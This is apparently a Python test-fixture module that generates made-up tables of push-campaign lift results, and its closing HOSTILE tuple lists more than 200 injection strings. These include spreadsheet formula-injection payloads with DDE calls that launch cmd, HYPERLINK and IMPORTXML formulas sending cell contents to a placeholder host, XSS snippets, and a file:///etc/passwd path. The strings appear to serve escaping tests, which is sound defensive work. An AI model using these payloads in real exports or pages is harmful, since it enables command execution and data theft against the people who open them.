"""Made-up tables of the declared form, the same for every test, and hostile texts."""

from __future__ import annotations

import numpy as np
import pandas as pd

from core.frames import (
    CAMPAIGNS,
    CHECKS,
    INSTANT,
    LAYER_CONTRASTS,
    LAYER_LIFTS,
    LIFTS,
    WINDOW_COUNTS,
    Table,
)

METRICS = ("confirmed_trades", "sessions", "wishlist_adds")
START = pd.Timestamp("2026-09-01T13:00:00.250Z")
NAN = float("nan")


def campaigns(n: int = 6, *, name: list[str] | None = None) -> pd.DataFrame:
    """Return campaigns: the last one still open, the one before too small."""
    at = np.arange(n)
    first = pd.Series(START + pd.to_timedelta(at * 3, unit="D")).astype(INSTANT)
    is_small, is_open = at == n - 2, at == n - 1
    measured = np.where(is_small, 12, 180 + 10 * at)
    frame = _filled(CAMPAIGNS, n).assign(
        campaign_id=[f"c{number:02d}" for number in at],
        name=name or [f"Drop {number}" for number in at],
        layer=[str(1 + number % 3) for number in at],
        content=["drop" if number % 2 else None for number in at],
        title=name or [f"Drop {number} is live" for number in at],
        first_delivered_at=first,
        last_delivered_at=(first + pd.Timedelta(minutes=5)).astype(INSTANT),
        window_closes_at=(first + pd.Timedelta(hours=48)).astype(INSTANT),
        n_delivered=200 + at,
        n_measured=measured,
        window_complete=~is_open,
        qualifies=~is_small,
        status=np.where(is_open, "window_open", np.where(is_small, "too_few_users", "ok")),
    )
    return _typed(CAMPAIGNS, frame)


def lifts(n: int = 6, *, seed: int = 7) -> pd.DataFrame:
    """Return lifts of `campaigns(n)`: above, below and over zero, open, too small, unbounded."""
    rng = np.random.default_rng(seed)
    sends = campaigns(n)
    frame = sends[["campaign_id", "layer"]].merge(pd.DataFrame({"metric": METRICS}), how="cross")
    rows = len(frame)
    base = rng.uniform(0.02, 0.4, rows)
    rel = np.tile([0.197, -0.21, 0.012], rows // 3) + rng.normal(0, 0.01, rows)
    half = np.tile([0.03, 0.05, 0.06], rows // 3)
    effect, sure = rel * base, half * base
    frame = _filled(LIFTS, rows).assign(
        campaign_id=frame["campaign_id"],
        layer=frame["layer"],
        metric=frame["metric"],
        method="classic",
        evidence="E",
        headline=True,
        n_users=np.repeat(sends["n_measured"].to_numpy(), len(METRICS)),
        baseline_rate=base,
        post_rate=base + effect,
        expected_rate=base,
        effect_size=effect,
        effect_size_ci_low=effect - sure,
        effect_size_ci_high=effect + sure,
        rel_effect_size=rel,
        rel_effect_size_ci_low=rel - half,
        rel_effect_size_ci_high=rel + half,
        standard_error=sure / 2,
        statistic=2 * rel / half,
        df=179.0,
        pvalue=np.tile([0.0001, 0.0002, 0.7], rows // 3),
        qvalue=np.tile([0.0004, 0.0008, 0.81], rows // 3),
        family="primary_metric",
        confidence_level=0.95,
        se_scale=1.0,
        support=1.0,
        status="ok",
    )
    return _typed(LIFTS, _with_shortfalls(frame))


def _with_shortfalls(frame: pd.DataFrame) -> pd.DataFrame:
    numbers = [c.name for c in LIFTS.columns if c.kind == "number" and c.missing]
    ids = frame["campaign_id"].unique()
    small, is_open = frame["campaign_id"] == ids[-2], frame["campaign_id"] == ids[-1]
    frame.loc[small, numbers] = NAN
    frame.loc[small, "status"] = "too_few_users"
    frame.loc[is_open, "status"] = "window_open"
    unbounded = (frame["campaign_id"] == ids[0]) & (frame["metric"] == "wishlist_adds")
    frame.loc[unbounded, "rel_effect_size_ci_high"] = NAN
    return frame


def layers(*, evidence: str = "E", method: str = "classic") -> pd.DataFrame:
    """Return pooled results of every layer and of all, for two metrics."""
    names = ["1", "2", "3", "all"]
    rel = np.array([0.183, 0.127, 0.241, 0.197, 0.02, -0.01, 0.03, 0.01])
    half = np.array([0.03, 0.05, 0.02, 0.0255, 0.05, 0.05, 0.05, 0.05])
    frame = _filled(LAYER_LIFTS, 8).assign(
        layer=names * 2,
        metric=["confirmed_trades"] * 4 + ["sessions"] * 4,
        method=method,
        evidence=evidence,
        n_campaigns=[12, 7, 47, 66] * 2,
        n_users=[8400, 5200, 3100, 11004] * 2,
        effect_size=rel * 0.05,
        effect_size_ci_low=(rel - half) * 0.05,
        effect_size_ci_high=(rel + half) * 0.05,
        rel_effect_size=rel,
        rel_effect_size_ci_low=rel - half,
        rel_effect_size_ci_high=rel + half,
        confidence_level=0.95,
        status="ok",
    )
    return _typed(LAYER_LIFTS, frame)


def contrasts() -> pd.DataFrame:
    """Return differences of three layers in one metric: one clear, one not, one without number."""
    frame = _filled(LAYER_CONTRASTS, 3).assign(
        layer=["1", "1", "2"],
        other_layer=["2", "3", "3"],
        metric="confirmed_trades",
        difference=[0.056, -0.114, NAN],
        difference_ci_low=[-0.02, -0.2, NAN],
        difference_ci_high=[0.13, -0.03, NAN],
        pvalue=[0.15, 0.01, NAN],
        confidence_level=0.95,
    )
    return _typed(LAYER_CONTRASTS, frame)


def checks() -> pd.DataFrame:
    """Return self-checks: one as it should be, one that was widened."""
    frame = _filled(CHECKS, 2).assign(
        layer=["1", "2"],
        method=["holdout", "comparison"],
        n_checks=[300, 100],
        n_campaigns=[12, 6],
        false_positive_share=[0.05, 0.17],
        false_positive_share_ci_low=[0.02, 0.06],
        false_positive_share_ci_high=[0.08, 0.28],
        spread=[1.02, 1.4],
        se_scale=[1.0, 1.4],
    )
    return _typed(CHECKS, frame)


def window_counts(n_pushes: int = 40, *, n_campaigns: int = 4, seed: int = 3) -> pd.DataFrame:
    """Return window counts in no order at all."""
    rng = np.random.default_rng(seed)
    pushes = pd.DataFrame(
        {
            "campaign_id": [f"c{number % n_campaigns:02d}" for number in range(n_pushes)],
            "person_id": [f"p{number // n_campaigns:04d}" for number in range(n_pushes)],
            "delivered_at": START + pd.to_timedelta(rng.integers(0, 10**9, n_pushes), unit="ms"),
        }
    )
    frame = pushes.merge(pd.DataFrame({"metric": METRICS}), how="cross")
    counts = {
        name: rng.poisson(2, len(frame)) for name in ("n_baseline", "n_post", "n_baseline_aligned")
    }
    days = {"baseline_days": 30.0, "post_hours": 48.0, "baseline_aligned_days": 30.0}
    frame = frame.assign(**counts, **days).sample(frac=1, random_state=seed)
    return _typed(WINDOW_COUNTS, frame.reset_index(drop=True))


def _filled(table: Table, n: int) -> pd.DataFrame:
    """Return n rows of nothing in particular."""
    nothing = {"text": None, "instant": pd.NaT, "integer": 0, "number": NAN, "flag": False}
    columns = {c.name: [nothing[c.kind]] * n for c in table.columns}
    return pd.DataFrame(columns)


def _typed(table: Table, frame: pd.DataFrame) -> pd.DataFrame:
    kinds = {"text": "str", "instant": INSTANT, "integer": "int64", "number": "float64"}
    dtypes = {c.name: kinds.get(c.kind, "bool") for c in table.columns}
    for column in table.columns:
        if column.kind == "text" and not column.missing:
            frame[column.name] = frame[column.name].fillna("x")
    return table.checked(frame.astype(dtypes))


_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "＝",
    "＋",
    "－",
    "＠",
    "  =",
    "\u00a0+",
    "\u200b=",
)
_TAILS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.test/?x="&A1,"click")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://example.test/?",A1),"//a")',
    "@SUM(A1:A9)",
    'DDE("cmd";"/C calc";"x")',
    "A1:A9}",
    "2+5+cmd|'/c notepad'!A1\"; drop",
    '=WEBSERVICE("http://example.test")',
    "-3+3+cmd|'/C calc'!D2",
    '"; =1+1',
    "1\n=2+2",
)
_OTHERS = (
    "x;=1+cmd|' /C calc'!A0;",
    "x\n=1+1",
    'x","=1+1',
    "'=1+1",
    "{=1+1}",
    "http://example.test/",
    "mailto:a@example.test",
    "internal:Sheet2!A1",
    "external:c:\\temp\\x.xlsx",
    "file:///etc/passwd",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "</script><script>alert(1)</script>",
    "<b>bold</b> & <i>x</i>",
    "%{customdata[0]} %{x}",
    "$\\frac{a}{b}$",
    "\u202egnp.exe",
    "1e5",
    "007",
    "TRUE",
    "#REF!",
    "a\x00b",
    "a\x0bb",
    "_x0041_",
    "😀" * 30,
    "{{7*7}}",
    "\ufeff=1+1",
    "<r><t>x</t></r>",
    '<r></r></is></c><c r="B9"><f>1+1</f></c><c r="C9" t="inlineStr"><is><r></r>',
)
HOSTILE = (*(start + tail for start in _STARTS for tail in _TAILS), *_OTHERS)
"""More than 200 texts that something, somewhere, would run."""
